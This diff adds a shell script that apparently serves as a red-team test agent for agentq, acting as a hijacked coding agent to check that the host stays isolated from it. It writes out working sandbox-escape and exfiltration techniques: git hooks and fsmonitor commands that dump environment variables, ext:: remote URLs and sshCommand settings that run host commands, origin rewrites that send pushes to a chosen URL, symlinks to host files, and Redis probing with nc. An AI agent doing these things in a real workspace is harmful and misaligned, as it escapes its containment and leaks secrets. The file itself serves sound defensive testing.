@@ -1,0 +1,133 @@
+#!/bin/sh
+# agentq's red-team agent: an agent that does what a hostile (or hijacked) agent
+# would do to the workspace, to prove the worker host never trusts it. Installed
+# as codex, claude, gemini and coderabbit in agentq-redteam:latest.
+# Each `@redteam VERB ARGS` line in its arguments is one attack:
+#
+#   @redteam commit                    commit a change (so there is work to push)
+#   @redteam hooks MARKER              git hooks and config that would run
+#                                      `touch MARKER` if git ran them on the host
+#   @redteam exfil URL                 point origin (and insteadOf) at URL
+#   @redteam symlink-blocked PATH      BLOCKED.md -> PATH (a host file)
+#   @redteam plant-meta VICTIM         symlinks to VICTIM where the worker writes
+#   @redteam commit-answer-link VICTIM commit ANSWER.md -> VICTIM
+#   @redteam fifo-blocked              BLOCKED.md is a FIFO
+#   @redteam redis PORT                try to reach Redis on the host
+#   @redteam git-add-all               `git add -A`, print what was staged, commit
+#   @redteam whoami                    print uid=N
+#   @redteam fill MB                   write an MB MiB file into the workspace
+#   @redteam flood MB                  print MB MiB of output
+#   @redteam block QUESTION            block, unless an answer was given
+#   @redteam sleep N                   sleep N seconds
+set -f
+echo "agentq-redteam: $(basename "$0")"
+# Several directives may share one line: each `@redteam ` starts a new one.
+directives=$(for a in "$@"; do printf '%s\n' "$a"; done |
+  awk '{ n = split($0, part, "@redteam "); for (i = 2; i <= n; i++) { sub(/ +$/, "", part[i]); print "@redteam " part[i] } }')
+commit() {
+  echo "change $(date +%s) $1" >> redteam-change.txt
+  git add redteam-change.txt && git commit -q -m "redteam: $1" || echo "commit failed"
+}
+hook_body() { printf '#!/bin/sh\nmkdir -p "$(dirname "%s")"; env > "%s"; exit 0\n' "$1" "$1"; }
+printf '%s\n' "$directives" | while IFS= read -r line; do
+  [ -n "$line" ] || continue
+  rest=${line#@redteam }
+  verb=${rest%% *}
+  arg=${rest#"$verb"}
+  arg=${arg# }
+  case "$verb" in
+    commit) commit commit ;;
+    hooks)
+      commit hooks
+      for h in pre-push post-checkout reference-transaction post-merge pre-auto-gc post-rewrite; do
+        hook_body "$arg.$h" > ".git/hooks/$h"
+        chmod +x ".git/hooks/$h"
+      done
+      mkdir -p /workspace/.redteam-hooks
+      for h in pre-push post-checkout reference-transaction; do
+        hook_body "$arg.path-$h" > "/workspace/.redteam-hooks/$h"
+        chmod +x "/workspace/.redteam-hooks/$h"
+      done
+      hook_body "$arg.fsmonitor" > /workspace/.redteam-fsmonitor
+      chmod +x /workspace/.redteam-fsmonitor
+      git config core.hooksPath /workspace/.redteam-hooks
+      git config core.fsmonitor /workspace/.redteam-fsmonitor
+      git config remote.origin.receivepack "touch $arg.receivepack; git-receive-pack"
+      git config remote.origin.uploadpack "touch $arg.uploadpack; git-upload-pack"
+      git config core.sshCommand "touch $arg.ssh"
+      git config protocol.ext.allow always
+      git config remote.origin.url "ext::sh -c touch% $arg.ext"
+      git config remote.origin.pushurl "ext::sh -c touch% $arg.ext-push"
+      echo "planted hooks for $arg"
+      ;;
+    exfil)
+      commit exfil
+      old=$(git config remote.origin.url || true)
+      git config remote.origin.url "$arg"
+      git config remote.origin.pushurl "$arg"
+      [ -n "$old" ] && git config "url.$arg.insteadOf" "$old"
+      git config --global "url.$arg.insteadOf" "http://" 2>/dev/null || true
+      echo "origin now $arg"
+      ;;
+    symlink-blocked)
+      rm -f BLOCKED.md
+      ln -s "$arg" BLOCKED.md
+      echo "BLOCKED.md -> $arg"
+      ;;
+    plant-meta)
+      mkdir -p /workspace/.meta 2>/dev/null
+      for n in agent-codex.log agent-claude.log qa.log qa-1.log qa-2.log prompt.md ANSWER.md status.json; do
+        rm -f "/workspace/.meta/$n"
+        ln -s "$arg" "/workspace/.meta/$n" 2>/dev/null && echo "planted .meta/$n"
+      done
+      for p in 1 2 3 4 5 6 7 8 9 10; do ln -s "$arg" "/workspace/.meta/.prompt.md.tmp-$p" 2>/dev/null; done
+      rm -f ANSWER.md status.json
+      ln -s "$arg" ANSWER.md
+      ln -s "$arg" /workspace/status.json 2>/dev/null
+      echo "planted ANSWER.md"
+      ;;
+    commit-answer-link)
+      rm -f ANSWER.md
+      ln -s "$arg" ANSWER.md
+      git add ANSWER.md && git commit -q -m "redteam: answer link" && echo "committed ANSWER.md -> $arg"
+      ;;
+    fifo-blocked)
+      rm -f BLOCKED.md
+      mkfifo BLOCKED.md && echo "BLOCKED.md is a FIFO"
+      ;;
+    redis)
+      for h in host.docker.internal $(ip route 2>/dev/null | awk '/default/ {print $3}'); do
+        echo "resolve $h: $(getent hosts "$h" 2>/dev/null || nslookup "$h" 2>/dev/null | tail -1)"
+        reply=$(printf 'PING\r\nKEYS *\r\nQUIT\r\n' | nc -w 2 "$h" "$arg" 2>&1 | tr '\r\n' '  ')
+        echo "redis-reply($h): $reply"
+      done
+      ;;
+    git-add-all)
+      git add -A
+      git status --porcelain | sed 's/^/staged: /'
+      git commit -q -m "redteam: add all" || echo "nothing to commit"
+      ;;
+    whoami) echo "uid=$(id -u) gid=$(id -g)" ;;
+    fill) dd if=/dev/zero of=redteam-big.bin bs=1048576 count="$arg" 2>/dev/null && echo "filled $arg MiB" ;;
+    flood)
+      echo "FLOOD-START"
+      i=0
+      while [ "$i" -lt "$arg" ]; do
+        yes 'flood flood flood flood flood flood flood flood flood flood flood flood' | head -c 1048576
+        i=$((i + 1))
+      done
+      echo
+      echo "FLOOD-END"
+      ;;
+    block)
+      if [ -s "${AGENTQ_ANSWER_FILE:-/agentq/ANSWER.md}" ] || { [ -f ANSWER.md ] && [ ! -L ANSWER.md ]; }; then
+        echo "answered"
+      else
+        printf '%s\n' "$arg" > BLOCKED.md
+        echo "blocked: $arg"
+      fi
+      ;;
+    sleep) sleep "$arg" ;;
+  esac
+done
+exit 0
